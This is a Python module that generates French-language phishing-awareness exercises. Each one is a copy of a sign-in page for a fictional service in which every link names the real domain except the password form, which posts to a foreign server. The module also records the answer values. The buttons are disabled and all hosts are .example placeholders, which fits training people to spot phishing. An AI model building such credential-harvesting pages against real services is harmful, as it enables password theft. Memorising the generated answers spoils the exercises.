"""A copy of a sign-in page that sends the password to a foreign server."""

from collections.abc import Mapping

from content.compiler.files import html_page
from content.compiler.variants import Draw, Variant

SERVICES = {
    "la Mutuelle Soleil": "mutuelle-soleil.example",
    "la Régie des eaux de Valmont": "eaux-valmont.example",
    "la Bibliothèque du Port": "biblio-port.example",
    "l'Assurance des Vergers": "assurance-vergers.example",
}
HOSTS = ("collecte", "traitement", "formulaires", "depot")
OWNERS = ("stats-rapides.example", "pages-libres.example", "envois-web.example", "boite3.example")
HEAD = """<style>
body { font-family: sans-serif; background: #f2f5f8; color: #1d2733; margin: 0; }
header, main, footer { max-width: 40rem; margin: 0 auto; padding: 1rem; background: #fff; }
label { display: block; margin: 1rem 0 .2rem; }
input { padding: .5rem; width: 16rem; }
</style>
"""
BODY = """<header>
<p><img src="https://{images}/logo.png" alt="{title}"></p>
<form method="get" action="https://{search}/chercher">
<label for="q">Rechercher sur le site</label><input id="q" name="q">
<button disabled>Rechercher</button>
</form>
</header>
<main>
<h1>Votre espace personnel</h1>
<p>Pour votre sécurité, vérifiez que vous êtes bien sur
<a href="https://{real}/">{real}</a>.</p>
<form method="post" action="https://{server}/v{number}/recevoir">
<label for="numero">Numéro d'adhérent</label><input id="numero" name="numero">
<label for="secret">Mot de passe</label><input id="secret" name="secret" type="password">
<p><button disabled>Se connecter</button></p>
</form>
<p>Exercice : les boutons de cette page sont désactivés.</p>
</main>
<footer>
<p><a href="https://{real}/aide">Aide</a> -
<a href="https://{real}/mentions">Mentions légales</a></p>
</footer>"""


def generate(draw: Draw, options: Mapping[str, object]) -> Variant:
    """Everything on the page names the real service, but for one `action`."""
    service = draw.choice(list(SERVICES))
    real = SERVICES[service]
    owner = draw.choice(OWNERS)
    server = f"{draw.choice(HOSTS)}{draw.integer(2, 49)}.{owner}"
    names = {
        "images": f"images.{real}",
        "search": f"recherche.{real}",
        "real": real,
        "server": server,
    }
    body = BODY.format(title=service, number=draw.integer(1, 9), **names)
    values = {
        "service": service,
        "vrai_domaine": real,
        "serveur": server,
        "serveur_tronque": owner,
        "images": names["images"],
        "recherche": names["search"],
    }
    page = html_page("Votre espace personnel", body, head=HEAD)
    return Variant(values=values, files={"connexion.html": page})
